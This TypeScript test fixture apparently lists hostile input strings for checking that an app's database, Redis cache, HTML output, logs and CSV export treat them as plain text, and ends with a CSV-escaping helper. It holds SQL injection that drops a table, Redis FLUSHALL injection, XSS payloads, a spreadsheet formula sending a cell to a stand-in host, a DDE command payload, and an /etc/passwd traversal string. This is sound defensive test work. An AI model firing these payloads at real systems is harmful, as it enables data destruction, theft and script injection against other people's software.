import { forgedMessage } from './odd-requests.ts'

/** What a script that got to run leaves behind. */
export const traceOfAttack = 'window.attacked'
const attack = `${traceOfAttack}=1`

/** Texts that mean something to a database, a cache, a browser, a spreadsheet, a log or a template, and are all texts. None begins or ends with what is cut off. */
export const hostileTexts: readonly string[] = [
  `'); drop table vote; --`,
  `' or '1'='1`,
  `\\'; select pg_sleep(60); --`,
  `$1 :name ?`,
  `x\r\nFLUSHALL\r\nx`,
  `*1\r\n$8\r\nFLUSHALL\r\nx`,
  `{0} door:0: vote_events:{0} * ?`,
  `redis.call('flushall')`,
  `<script>${attack}</script>`,
  `"><img src=x onerror="${attack}">`,
  `'><svg/onload=${attack}>`,
  `</title></textarea></style></script><script>${attack}</script>`,
  `<!--><script>${attack}</script>-->`,
  `javascript:${attack}`,
  `<a href="javascript:${attack}">x</a><base href=//elsewhere.example>`,
  `<meta http-equiv=refresh content="0;url=//elsewhere.example">`,
  `&lt;script&gt;${attack}&lt;/script&gt; &amp;amp;`,
  `=HYPERLINK("http://elsewhere.example/?"&A1,"win")`,
  `=cmd|'/c calc'!A1`,
  `+1+1`,
  `-1+1`,
  `@SUM(A1)`,
  `|\t=1+1`,
  `|\r=1+1`,
  `＝1+1`,
  `a,"b"\r\n=1+1,c`,
  `\${${attack}} {{constructor.constructor('${attack}')()}} <%= ${attack} %> #{7*7}`,
  `%s%n%d %00 %0d%0a`,
  `x\n{"level":60,"msg":"${forgedMessage}"}`,
  `x\u001b[2J\u001b]0;owned\u0007x`,
  `\u202egnp.exe \u2028\u2029 \u200b\ufeff x`,
  `../../../../etc/passwd`,
  `__proto__`,
  `constructor`,
  `hasOwnProperty`,
  `toString`,
  `null`,
  `NaN`,
  `0`,
]

/** As a cell of our CSV has it: a text, also in a spreadsheet. */
export const inSpreadsheet = (text: string): string => (/^[=+\-@\t\r\n＝＋－＠]/.test(text) ? `'${text}` : text)
